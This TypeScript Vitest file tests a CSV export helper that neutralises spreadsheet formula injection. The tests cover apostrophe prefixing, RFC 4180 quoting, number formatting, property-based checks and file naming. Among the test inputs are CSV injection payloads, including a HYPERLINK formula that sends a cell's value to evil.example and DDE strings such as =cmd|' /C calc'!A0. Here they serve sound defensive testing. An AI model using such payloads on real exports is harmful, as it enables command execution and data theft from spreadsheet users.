// @vitest-environment node
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_HOSTILE_USERS, EDGE_CASE_PRODUCTS, HOSTILE_USER } from '../../../mocks/data';
import { parseCsv } from '../../../test/parse-csv';
import { csvField, csvFileName, csvHeader, csvRecord, csvRecords, plainDecimal } from './csv';

/** What a spreadsheet starts a cell with, once it has split the line its way. */
const FORMULA_START = /^[=+\-@]/;
/** What it skips before reading a formula: whitespace, control characters, a stray quote. */
// eslint-disable-next-line no-control-regex -- control characters are what it looks for
const SKIPPED = /^[\s\x00-\x1f\x7f"]*/;

/**
 * The cells a spreadsheet could see in `text`, whichever of comma or semicolon it splits on and
 * whether or not it honours the quotes: every piece between separators and line breaks.
 */
function possibleCells(text: string): string[] {
  return text.split(/[,;\r\n]/).map((piece) => piece.replace(SKIPPED, ''));
}

describe('csvField', () => {
  it('neutralises what a spreadsheet would run, as OWASP lists it', () => {
    expect(csvField('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(csvField('+SUM(1+1)')).toBe(`"'+SUM(1+1)"`);
    expect(csvField('-2+3')).toBe(`"'-2+3"`);
    expect(csvField('@cmd')).toBe(`"'@cmd"`);
    expect(csvField('\tcalc')).toBe(`"'\tcalc"`);
    expect(csvField('\rcalc')).toBe(`"'\rcalc"`);
    expect(csvField('\ncalc')).toBe(`"'\ncalc"`);
    // Past a line break too, which papaparse's default pattern misses.
    expect(csvField('=1+1\nnext line')).toBe(`"'=1+1\nnext line"`);
  });

  it('counts NUL, other control characters and whitespace before a trigger as part of it', () => {
    expect(csvField('\u0000=HYPERLINK("http://evil.example/?"&B3,"Open")')).toBe(
      `"'\u0000=HYPERLINK(""http://evil.example/?""&B3,""Open"")"`,
    );
    expect(csvField('\u0000\u0000=1+1')).toBe(`"'\u0000\u0000=1+1"`);
    expect(csvField(' =1')).toBe(`"' =1"`);
    expect(csvField('\u001f\u007f\u00a0+1')).toBe(`"'\u001f\u007f\u00a0+1"`);
    expect(csvField('\u0000\tx')).toBe(`"'\u0000\tx"`);
  });

  it('guards a trigger after a semicolon, comma, tab or line break inside the text', () => {
    // Excel in de/fr/es/it/nl splits on `;`: these were formula cells there.
    expect(csvField('x;=1+1;')).toBe(`"x;'=1+1;"`);
    expect(csvField("x;=cmd|' /C calc'!A0;")).toBe(`"x;'=cmd|' /C calc'!A0;"`);
    expect(csvField('a\n=1+1;')).toBe(`"a\n'=1+1;"`);
    expect(csvField('a\r\n@x')).toBe(`"a\r\n'@x"`);
    expect(csvField('x; \u0000"-1')).toBe(`"x;' \u0000""-1"`);
    expect(csvField('a,+1')).toBe(`"a,'+1"`);
    expect(csvField('a\t=1')).toBe(`"a\t'=1"`);
    // A leading CR is guarded where each kind of spreadsheet starts the cell: before it, and
    // after it for one that takes the CR as the end of a row.
    expect(csvField('\r=1+1')).toBe(`"'\r'=1+1"`);
  });

  it('leaves ordinary text as it is: names, e-mails, times, text with commas', () => {
    expect(csvField('Jean-Luc')).toBe('"Jean-Luc"');
    expect(csvField("O'Brien")).toBe(`"O'Brien"`);
    expect(csvField('grace.hopper+test@example.com')).toBe('"grace.hopper+test@example.com"');
    expect(csvField('2024-02-29T23:59:59Z')).toBe('"2024-02-29T23:59:59Z"');
    expect(csvField('Home & Garden; Tools, Paint')).toBe('"Home & Garden; Tools, Paint"');
    expect(csvField('a=b+c-d@e')).toBe('"a=b+c-d@e"');
    expect(csvField('Line\r\nBreak')).toBe('"Line\r\nBreak"');
    expect(csvField('Mallory')).toBe('"Mallory"');
    expect(csvField('')).toBe('""');
    expect(csvField("'quoted already")).toBe(`"'quoted already"`);
  });

  it('quotes every text field, doubling quotes, as RFC 4180 allows', () => {
    expect(csvField('Quote "the" Comma, Person')).toBe('"Quote ""the"" Comma, Person"');
    expect(csvField('"')).toBe('""""');
  });

  it('writes numbers as plain decimals, whatever their sign: they are not text', () => {
    expect(csvField(19.99)).toBe('19.99');
    expect(csvField(-5)).toBe('-5');
    expect(csvField(0)).toBe('0');
    expect(csvField(1e21)).toBe('1000000000000000000000');
    expect(csvField(null)).toBe('');
    expect(csvField(undefined)).toBe('');
    expect(csvField(true)).toBe('true');
  });
});

describe('the neutralising rule, for any text', () => {
  // Strings made mostly of the characters that matter here, and arbitrary Unicode as well.
  const tricky = fc.string({
    unit: fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      ';',
      ',',
      '"',
      "'",
      ' ',
      '\u00a0',
      '\u0000',
      '\u001f',
      '\u007f',
      'a',
      'Z',
      '1',
      '|',
      '!',
    ),
  });
  const text = fc.oneof(tricky, fc.string({ unit: 'binary' }));

  it('leaves no possible cell starting with a formula, split on , or ; or line breaks', () => {
    fc.assert(
      fc.property(fc.array(text, { maxLength: 4 }), (values) => {
        const line = csvRecord(values);
        for (const cell of possibleCells(line)) expect(cell).not.toMatch(FORMULA_START);
      }),
      { numRuns: 1000 },
    );
  });

  it('reads back as the same text with apostrophes added, and only at a cell start', () => {
    fc.assert(
      fc.property(text, (value) => {
        const [[cell]] = parseCsv(csvRecord([value])) as [[string]];
        expect(cell.replace(/'/g, '')).toBe(value.replace(/'/g, ''));
        // Each added apostrophe is at the start or right after a separator or line break.
        let added = 0;
        for (let index = 0, from = 0; index < cell.length; index += 1) {
          if (cell[index] === "'" && value[from] !== "'") {
            expect(index === 0 || /[,;\t\r\n]/.test(cell[index - 1]!)).toBe(true);
            added += 1;
          } else {
            from += 1;
          }
        }
        expect(cell.length - value.length).toBe(added);
      }),
      { numRuns: 1000 },
    );
  });

  it('writes the issue-22 names safely in a file split on semicolons', () => {
    const names = ['x;=1+1;', "x;=cmd|' /C calc'!A0;", 'a\n=1+1;', '\r=1+1', '\u0000=1+1'];
    const file = csvHeader(['id', 'name']) + names.map((name) => csvRecord(['u1', name])).join('');
    for (const cell of possibleCells(file)) expect(cell).not.toMatch(FORMULA_START);
  });
});

describe('csvHeader', () => {
  it('writes the API field names bare, and anything else as text', () => {
    expect(csvHeader(['id', 'name', 'email', 'created_at'])).toBe('id,name,email,created_at\r\n');
    expect(csvHeader(['id', '=x'])).toBe(`id,"'=x"\r\n`);
  });
});

describe('plainDecimal', () => {
  it.each([
    [1234567.5, '1234567.5'],
    [0.1, '0.1'],
    [-0, '0'],
    [1e21, '1000000000000000000000'],
    [1.5e21, '1500000000000000000000'],
    [-2.5e22, '-25000000000000000000000'],
    [1e-7, '0.0000001'],
    [1.25e-7, '0.000000125'],
    [-3.5e-9, '-0.0000000035'],
    [Number.MAX_VALUE, `17976931348623157${'0'.repeat(292)}`],
    [Number.MIN_VALUE, `0.${'0'.repeat(323)}5`],
    [Number.NaN, ''],
    [Number.POSITIVE_INFINITY, ''],
  ])('%s → %s', (value, expected) => {
    expect(plainDecimal(value)).toBe(expected);
    if (expected !== '') expect(Number(expected)).toBe(value === 0 ? 0 : value);
  });
});

describe('csvRecords', () => {
  it('reads back as the same cells, hostile values included, one CRLF-ended record each', () => {
    const users = [...CSV_HOSTILE_USERS, HOSTILE_USER];
    const fields = ['id', 'name', 'email', 'created_at'] as const;
    const text = csvHeader(fields) + csvRecords(users, fields);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual(['id', 'name', 'email', 'created_at']);
    expect(rows).toHaveLength(users.length + 1);
    rows.slice(1).forEach((row, index) => {
      const user = users[index]!;
      const name = /^[=+\-@]/.test(user.name) ? `'${user.name}` : user.name;
      expect(row).toEqual([user.id, name, user.email, user.created_at]);
    });
    expect(text.split('\r\n').at(-1)).toBe('');
  });

  it('writes products with prices as numbers and neutralised descriptions', () => {
    const fields = ['id', 'name', 'category', 'price', 'description'] as const;
    const rows = parseCsv(csvRecords(EDGE_CASE_PRODUCTS, fields));
    expect(rows).toEqual([
      [
        'prod_csv_hyperlink',
        `'=HYPERLINK("http://x","Click me")`,
        'Home & Garden',
        '9.99',
        'Opens a link when a spreadsheet runs the name as a formula.',
      ],
      [
        'prod_csv_quote',
        'Quote "the" Comma, Planter',
        'Home & Garden',
        '14.5',
        "'-1+2 in the description,\r\nthen @SUM(A1) on a second line.",
      ],
    ]);
  });

  it('writes nothing for no items', () => {
    expect(csvRecords([], ['id'])).toBe('');
  });
});

describe('csvFileName', () => {
  it('uses the local date, zero-padded', () => {
    expect(csvFileName('users', new Date(2026, 0, 5, 23, 59))).toBe('users-2026-01-05.csv');
    expect(csvFileName('products', new Date(2026, 10, 23, 0, 1))).toBe('products-2026-11-23.csv');
  });
});
